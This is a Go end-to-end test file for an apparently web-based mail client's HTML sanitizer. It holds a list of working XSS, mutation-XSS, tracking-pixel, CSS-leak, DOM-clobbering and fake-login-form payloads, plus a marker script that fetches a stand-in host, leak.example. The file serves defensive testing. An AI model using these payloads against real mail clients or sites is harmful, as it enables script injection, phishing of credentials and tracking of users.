//go:build servers

package e2e

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// hostile are mails that want to run a script, to call home, to leave their
// frame, or to change the page around them. RAN is replaced by a script that
// shows that it ran, in every way that one could be seen; every address in them
// leads to a host of the test.
func hostile() []string {
	return []string{
		`<script>RAN</script>`,
		`<SCRIPT SRC="http://leak.example/s.js"></SCRIPT>`,
		`<scr<script>ipt>RAN</scr</script>ipt>`,
		`<script/x>RAN</script/x>`,
		`<img src=x onerror="RAN">`,
		`<img src="http://leak.example/pixel.gif" width=1 height=1>`,
		`<img srcset="http://leak.example/a.png 1x, http://leak.example/b.png 2x">`,
		`<picture><source srcset="//leak.example/p.webp"><img src="//leak.example/p.png"></picture>`,
		`<img src="&#104;&#116;&#116;&#112;://leak.example/entity.png">`,
		`<img src="/settings/profile"><img src="../people">`,
		`<input type=image src="http://leak.example/i.png"><input autofocus onfocus="RAN">`,
		`<video poster="http://leak.example/p.png" src="http://leak.example/v.mp4" autoplay onloadstart="RAN"></video><audio src="http://leak.example/a.mp3" autoplay></audio>`,
		`<body background="http://leak.example/bg.png" onload="RAN" onpageshow="RAN">text</body>`,
		`<table background="http://leak.example/t.png"><tr><td background="http://leak.example/td.png">cell</td></tr></table>`,
		`<div style="background:url(http://leak.example/css.png)">x</div>`,
		`<div style="background-image:u\72l(http://leak.example/css-escape.png);width:expression(RAN)">x</div>`,
		`<div style="position:fixed;inset:0;z-index:99999;background:#f00">over everything</div>`,
		`<style>@import "http://leak.example/i.css"; body{background:url(http://leak.example/s.png)} *{display:none}</style>text`,
		`<link rel=stylesheet href="http://leak.example/l.css"><link rel=preload as=image href="http://leak.example/l.png"><link rel=dns-prefetch href="//leak.example"><link rel=icon href="http://leak.example/i.ico">`,
		`<style>@font-face{font-family:x;src:url(http://leak.example/f.woff)} p{font-family:x}</style><p>text</p>`,
		`<meta http-equiv="refresh" content="0;url=http://leak.example/refresh">`,
		`<meta http-equiv="refresh" content="0;url=javascript:RAN"><meta http-equiv="Set-Cookie" content="ninetyten=x">`,
		`<meta http-equiv="Content-Security-Policy" content="default-src *; script-src 'unsafe-inline'"><script>RAN</script>`,
		`<base href="http://leak.example/"><img src="base.png"><a href="page">link</a>`,
		`<form action="http://leak.example/form" method=post><input name=password type=password><button>Log in again</button></form>`,
		`<form id=f action="/logout" method=post></form><button form=f autofocus onfocus="RAN">x</button>`,
		`<iframe src="http://leak.example/frame"></iframe><iframe srcdoc="<script>RAN</script>"></iframe>`,
		`<iframe src="javascript:RAN"></iframe><frameset><frame src="http://leak.example/f"></frameset>`,
		`<object data="http://leak.example/o.swf"></object><embed src="http://leak.example/e.swf"><applet code="x" codebase="http://leak.example/"></applet>`,
		`<object data="data:text/html,<script>RAN</script>"></object>`,
		`<svg onload="RAN"><script>RAN</script></svg>`,
		`<svg><image href="http://leak.example/svg.png" xlink:href="http://leak.example/xlink.png"></image><use href="http://leak.example/u.svg#x"></use></svg>`,
		`<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="RAN"></body></foreignObject></svg>`,
		`<svg><animate attributeName=href values="javascript:RAN" /><a id=x><text>click</text></a><set attributeName=onmouseover to="RAN"/></svg>`,
		`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='RAN'&gt;"></mglyph></table></mtext></math>`,
		`<math href="javascript:RAN"><maction actiontype="statusline#http://leak.example" xlink:href="javascript:RAN">x</maction></math>`,
		`<noscript><p title="</noscript><img src=x onerror=RAN>"></noscript>`,
		`<textarea><img src=x onerror="RAN"></textarea><title><img src=x onerror="RAN"></title><xmp><img src=x onerror="RAN"></xmp>`,
		`<a href="javascript:RAN">click</a><a href="  java&#10;script:RAN">click</a><a href="data:text/html,<script>RAN</script>">click</a><a href="vbscript:RAN">x</a>`,
		`<a href="http://leak.example/ping" ping="http://leak.example/ping" target=_top>a link that nobody clicks</a>`,
		`<a id=main name=main class=toast data-key=e data-open=act-write accesskey=e>clobber</a><div id=toasts></div><img name=cookie><img name=getElementById>`,
		`<div hx-get="http://leak.example/hx" hx-trigger="load" data-hx-get="/logout" hx-on:load="RAN">htmx</div><div hx-sse:connect="http://leak.example/sse"></div>`,
		`<template><script>RAN</script></template><div><template shadowrootmode=open><img src=x onerror="RAN"></template></div>`,
		`<!--[if gte IE 4]><script>RAN</script><![endif]--><!--><img src=x onerror="RAN">-->`,
		`<![CDATA[<img src=x onerror="RAN">]]><?xml-stylesheet href="http://leak.example/x.css"?>`,
		"<img src=`x` onerror=`RAN`><img/src/onerror=RAN><img \x00src=x on\x00error=RAN>",
		`</div></main></body></html><script>RAN</script><plaintext>the rest`,
		`<details open ontoggle="RAN"><summary>x</summary></details><marquee onstart="RAN">x</marquee><dialog open>Your session is over</dialog>`,
		`<p>` + strings.Repeat(`<div>`, 3000) + `<img src=x onerror="RAN">`,
		`<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RAN'/>"><img src="data:image/png;base64,iVBORw0KGgo=" onload="RAN">`,
		`<portal src="http://leak.example/portal"></portal><fencedframe></fencedframe><bgsound src="http://leak.example/b.wav"><isindex action="javascript:RAN"><keygen autofocus onfocus="RAN">`,
		"+ADw-script+AD4-RAN+ADw-/script+AD4-",
	}
}

// ran shows that a script ran: on the console, in the window and its parents, by
// a dialog and by a request.
const ran = `console.error('ran');try{top.owned=1;top.document.title='owned'}catch(e){}window.owned=1;alert('ran');fetch('http://leak.example/ran')`

// payloads are the HTML of all mails of the test. The folder of the variable
// CORPORA may hold more of them, in html-sanitize/expected.tsv.
func payloads(t *testing.T) []string {
	t.Helper()
	var all []string
	for _, p := range hostile() {
		all = append(all, strings.ReplaceAll(p, "RAN", ran))
	}
	own := len(all)
	if dir := os.Getenv("CORPORA"); dir != "" {
		table, err := os.ReadFile(filepath.Join(dir, "html-sanitize", "expected.tsv"))
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.Split(strings.TrimSpace(string(table)), "\n")
		for _, line := range lines[1:] {
			if cells := strings.Split(line, "\t"); len(cells) > 2 {
				all = append(all, strings.NewReplacer(`\n`, "\n", `\t`, "\t", `\r`, "\r", `\\`, `\`).Replace(cells[2]))
			}
		}
	}
	t.Logf("%d payloads of our own, %d of the folder in CORPORA", own, len(all)-own)
	return all
}
